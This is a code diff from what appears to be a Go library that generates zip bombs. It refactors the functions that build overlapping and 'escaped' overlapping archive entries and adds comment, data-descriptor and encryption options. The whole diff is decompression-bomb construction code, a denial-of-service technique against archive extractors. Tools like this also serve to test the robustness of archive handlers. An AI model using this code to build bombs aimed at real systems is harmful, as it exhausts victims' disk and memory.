@@ -14,9 +14,13 @@ type OverlapOptions struct {
 	Method           uint16
 	CompressionLevel int // Deflate [-2,9]
 	ExtraTag         uint16
+	Comment          string         // comment of every file in the central directory
+	DataDescriptor   DataDescriptor // no-overlap only
+
+	EncryptionOptions // no-overlap only
 }
 
-func (zb *ZipBomb) AddNoOverlap(kernelBytes []byte, numFiles int, optFns ...func(o *OverlapOptions)) error {
+func (zb *ZipBomb) AddNoOverlap(kernel Kernel, numFiles int, optFns ...func(o *OverlapOptions)) error {
 	opts := OverlapOptions{
 		FilenameGen:      filename.NewDefaultGenerator(filename.DefaultAlphabet, ""),
 		CompressionLevel: 5,
@@ -27,16 +31,20 @@ func (zb *ZipBomb) AddNoOverlap(kernelBytes []byte, numFiles int, optFns ...func
 		fn(&opts)
 	}
 
-	k, err := newKernel(opts.FilenameGen.Generate(numFiles-1), kernelBytes, opts.Method, opts.CompressionLevel)
+	k, err := zb.newKernel(opts.FilenameGen.Generate(numFiles-1), kernel, opts.Method, opts.CompressionLevel)
 	if err != nil {
 		return err
 	}
 
-	files := []fileRecord{
-		{
-			header: k.LocalFileHeader(),
-			data:   k.CompressedBytes(),
-		},
+	k.LocalFileHeader().Comment = opts.Comment
+
+	// the kernel is the last file, the others are filled in front of it
+	files := make([]fileRecord, numFiles)
+	files[numFiles-1] = fileRecord{
+		header:         k.LocalFileHeader(),
+		data:           k.Data(),
+		dataDescriptor: opts.DataDescriptor,
+		encryption:     opts.EncryptionOptions,
 	}
 
 	if opts.OnFileCreateHook != nil {
@@ -45,31 +53,37 @@ func (zb *ZipBomb) AddNoOverlap(kernelBytes []byte, numFiles int, optFns ...func
 
 	zb.uncompressedSize = zb.uncompressedSize + int64(k.UncompressedSize())
 
-	for len(files) < numFiles {
+	for i := numFiles - 2; i >= 0; i-- {
 		lfh := newFileHeader(
 			k.CompressedSize(),
 			k.UncompressedSize(),
 			k.CRC32(),
-			opts.FilenameGen.Generate(numFiles-1-len(files)),
+			opts.FilenameGen.Generate(i),
 			opts.Method,
 		)
 
-		files = append([]fileRecord{{
-			header: lfh,
-			data:   k.CompressedBytes(),
-		}}, files...)
+		lfh.Comment = opts.Comment
+
+		files[i] = fileRecord{
+			header:         lfh,
+			data:           k.Data(),
+			dataDescriptor: opts.DataDescriptor,
+			encryption:     opts.EncryptionOptions,
+		}
 
-		zb.uncompressedSize = zb.uncompressedSize + int64(lfh.UncompressedSize)
+		zb.uncompressedSize = zb.uncompressedSize + int64(lfh.UncompressedSize64)
 
 		if opts.OnFileCreateHook != nil {
 			opts.OnFileCreateHook(lfh.Name)
 		}
 	}
 
+	zb.nameSavings += nameSavings(opts.FilenameGen, numFiles)
+
 	return zb.writeFiles(files)
 }
 
-func (zb *ZipBomb) AddEscapedOverlap(kernelBytes []byte, numFiles int, optFns ...func(o *OverlapOptions)) error {
+func (zb *ZipBomb) AddEscapedOverlap(kernel Kernel, numFiles int, optFns ...func(o *OverlapOptions)) error {
 	opts := OverlapOptions{
 		FilenameGen:      filename.NewDefaultGenerator(filename.DefaultAlphabet, ""),
 		CompressionLevel: 5,
@@ -80,15 +94,28 @@ func (zb *ZipBomb) AddEscapedOverlap(kernelBytes []byte, numFiles int, optFns ..
 		fn(&opts)
 	}
 
-	k, err := newKernel(opts.FilenameGen.Generate(numFiles-1), kernelBytes, opts.Method, opts.CompressionLevel)
+	if opts.DataDescriptor != NoDataDescriptor {
+		return errDescriptor
+	}
+
+	if opts.Password != "" {
+		return errEncryptedOverlap
+	}
+
+	k, err := zb.newKernel(opts.FilenameGen.Generate(numFiles-1), kernel, opts.Method, opts.CompressionLevel)
 	if err != nil {
 		return err
 	}
 
+	k.LocalFileHeader().Comment = opts.Comment
+
+	// the headers are quoted by the following files
+	zb.prepareHeader(k.LocalFileHeader())
+
 	files := []fileRecord{
 		{
 			header: k.LocalFileHeader(),
-			data:   k.CompressedBytes(),
+			data:   k.Data(),
 		},
 	}
 
@@ -104,7 +131,7 @@ func (zb *ZipBomb) AddEscapedOverlap(kernelBytes []byte, numFiles int, optFns ..
 	if opts.ExtraTag != 0 {
 		sum := 0
 		for sum <= uint16max {
-			sum = sum + fileHeaderLen + 4 + 20 + len(opts.FilenameGen.Generate(extraFieldEscapedFile+1))
+			sum = sum + fileHeaderLen + 4 + 20 + filename.Len(opts.FilenameGen, extraFieldEscapedFile+1)
 			extraFieldEscapedFile = extraFieldEscapedFile + 1
 		}
 
@@ -120,34 +147,26 @@ func (zb *ZipBomb) AddEscapedOverlap(kernelBytes []byte, numFiles int, optFns ..
 				return err
 			}
 
-			crc32 := crc32.NewIEEE()
-
-			crc32.Write(headerBytes)
-
-			for i := 1; i < len(files); i++ {
-				hb, err := files[i].header.MarshalBinary()
-				if err != nil {
-					return err
-				}
-
-				crc32.Write(hb)
-			}
-
-			crc32.Write(k.Bytes())
+			// the escape quotes the header of the next file, followed by
+			// the uncompressed content of the next file
+			crc := crc32Combine(crc32.ChecksumIEEE(headerBytes), next.header.CRC32, next.header.UncompressedSize64)
 
 			escape := newEscape(
 				opts.FilenameGen.Generate(numFiles-1-len(files)),
 				next.header,
 				uint16(len(headerBytes)),
-				crc32,
+				crc,
 			)
 
+			escape.LocalFileHeader().Comment = opts.Comment
+			zb.prepareHeader(escape.LocalFileHeader())
+
 			files = append([]fileRecord{{
 				header: escape.LocalFileHeader(),
-				data:   escape.Data(),
+				data:   byteData(escape.Data()),
 			}}, files...)
 
-			zb.uncompressedSize = zb.uncompressedSize + int64(escape.LocalFileHeader().UncompressedSize)
+			zb.uncompressedSize = zb.uncompressedSize + int64(escape.LocalFileHeader().UncompressedSize64)
 
 			if opts.OnFileCreateHook != nil {
 				opts.OnFileCreateHook(escape.Name())
@@ -171,19 +190,44 @@ func (zb *ZipBomb) AddEscapedOverlap(kernelBytes []byte, numFiles int, optFns ..
 			opts.Method,
 		)
 
-		lfh.SetExtraLengthExcess(uint16(len(headerBytes)) + next.header.ExtraLengthExcess())
+		// The extra field covers all following headers, but its length
+		// is limited to 16 bits.
+		excess := len(headerBytes) + int(next.header.ExtraLengthExcess())
+		if excess > uint16max {
+			return errLongExcess
+		}
+
+		lfh.SetExtraLengthExcess(uint16(excess))
+		lfh.Comment = opts.Comment
+		zb.prepareHeader(lfh)
 
 		files = append([]fileRecord{{
 			header: lfh,
 			data:   nil,
 		}}, files...)
 
-		zb.uncompressedSize = zb.uncompressedSize + int64(lfh.UncompressedSize)
+		zb.uncompressedSize = zb.uncompressedSize + int64(lfh.UncompressedSize64)
 
 		if opts.OnFileCreateHook != nil {
 			opts.OnFileCreateHook(lfh.Name)
 		}
 	}
 
+	zb.nameSavings += nameSavings(opts.FilenameGen, numFiles)
+
 	return zb.writeFiles(files)
 }
+
+// nameSavings returns the number of bytes the filenames of gen save over the
+// default filenames. Every name is stored in the local file header and in the
+// central directory header.
+func nameSavings(gen filename.Generator, numFiles int) int64 {
+	def := filename.NewDefaultGenerator(filename.DefaultAlphabet, "")
+
+	savings := int64(0)
+	for i := 0; i < numFiles; i++ {
+		savings += int64(filename.Len(def, i) - filename.Len(gen, i))
+	}
+
+	return 2 * savings
+}